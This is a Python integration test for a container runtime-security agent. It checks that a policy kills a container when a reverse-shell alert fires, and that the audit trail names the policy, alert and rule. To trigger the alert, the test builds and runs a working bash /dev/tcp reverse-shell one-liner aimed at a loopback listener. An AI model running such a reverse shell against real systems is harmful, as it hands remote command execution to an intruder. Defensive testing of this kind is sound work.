"""A response policy on the whole agent (real eBPF sensor, real podman container, real
platform): a Critical reverse-shell alert kills the container, and the audit trail says
which policy, alert and rule.

The policy acts on the alert, after the exec it judges has run: the kill lands 0.1 s (idle
host) to over 1 s (a busy host, the agent's pipeline behind the host's event backlog) after
the exec (docs/response.md, "Limits"). The test's operator therefore works at an operator's
pace: its second command takes the shell 5 s to answer, and the kill must land within
those. A command answered within milliseconds of the shell's start cannot be stopped by any
alert-driven response; refusing the shell's exec itself is the exec guard's work
(tests/profiles/test_protect_live.py)."""

from __future__ import annotations

import contextlib
import socket
from pathlib import Path

import pytest

from stockade.agent import Agent
from tests.support.agent_runner import AgentRunner
from tests.support.platform_runner import PlatformRunner
from tests.support.podman import Podman
from tests.support.polling import poll_until, poll_value

pytestmark = [pytest.mark.root, pytest.mark.podman, pytest.mark.server, pytest.mark.ebpf]
DEBIAN_IMAGE = "localhost/stockade-test-debian:latest"
RULE = "Reverse shell or netcat execution"
POLICY = f"""
policies:
  - name: kill-reverse-shells
    match: {{rules: ["{RULE}"], min_priority: Critical}}
    actions: [kill_container]
"""


def _read_until(conn: socket.socket, marker: bytes, timeout_s: float) -> bytes:
    """What the shell sent until `marker` came, the connection closed, or the timeout."""
    conn.settimeout(timeout_s)
    data = b""
    with contextlib.suppress(TimeoutError, ConnectionResetError):
        while marker not in data:
            chunk = conn.recv(4096)
            if not chunk:
                break
            data += chunk
    return data


def _accept(listener: socket.socket) -> socket.socket | None:
    listener.settimeout(0.2)
    with contextlib.suppress(TimeoutError):
        return listener.accept()[0]
    return None


def _exited(podman: Podman, container: str) -> bool:
    status = podman.cmd("inspect", "--format", "{{.State.Status}}", container).stdout
    return status.strip() == b"exited"


def test_policy_kills_a_reverse_shell_before_its_second_answer(
    platform: PlatformRunner, podman: Podman, corpus: Path, tmp_path: Path
) -> None:
    image = podman.load_image(corpus / "images" / "debian12-app.oci.tar", DEBIAN_IMAGE)
    # host network: the attacker's listener is on this host's loopback, nowhere else
    container = podman.run_detached(image, "sleep", "600", extra=("--network", "host"))
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    config = platform.agent_config(tmp_path / "agent", policies=(policy,))
    with socket.create_server(("127.0.0.1", 0)) as listener, AgentRunner(Agent(config)):
        port = listener.getsockname()[1]
        shell = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
        podman.cmd("exec", "-d", container, "bash", "-c", shell)
        conn = poll_until(
            lambda: _accept(listener) or _exited(podman, container),
            30,
            "the reverse shell to connect (or its container to be killed first)",
        )
        if isinstance(conn, socket.socket):
            with conn:
                conn.sendall(b"echo first-$((6*7))\n")
                _read_until(conn, b"first-42", 30)  # answered, or killed already
                # the operator's second command, which takes the shell 5 s to answer: an
                # instant one is often answered before the kill lands (see the docstring)
                with contextlib.suppress(OSError):
                    conn.sendall(b"sleep 5; echo second-$((6*7))\n")
                answer = _read_until(conn, b"second-42", 30)
            assert b"second-42" not in answer
        state = poll_value(
            lambda: podman.cmd("inspect", "--format", "{{.State.ExitCode}}", container).stdout,
            lambda s: s.strip() == b"137",
            30,
            "the container to be killed (exit 137)",
        )
        assert state.strip() == b"137"
        with contextlib.closing(platform.login()) as admin:
            trail = poll_value(
                lambda: admin.get("/api/v1/actions", params={"action": "kill_container"}).json()[
                    "items"
                ],
                lambda found: any(r["status"] == "done" for r in found),
                30,
                "the policy's kill in the platform's audit trail",
            )
            alerts = poll_value(
                lambda: admin.get("/api/v1/alerts", params={"rule": RULE}).json()["items"],
                bool,
                30,
                "the reverse shell alert at the platform",
            )
    kill = next(r for r in trail if r["status"] == "done")
    assert kill["target"]["container_id"] == container
    assert kill["trigger"]["kind"] == "policy"
    assert kill["trigger"]["policy"] == "kill-reverse-shells"
    assert kill["trigger"]["rule"] == RULE
    assert kill["trigger"]["alert_id"] in {a["uuid"] for a in alerts}
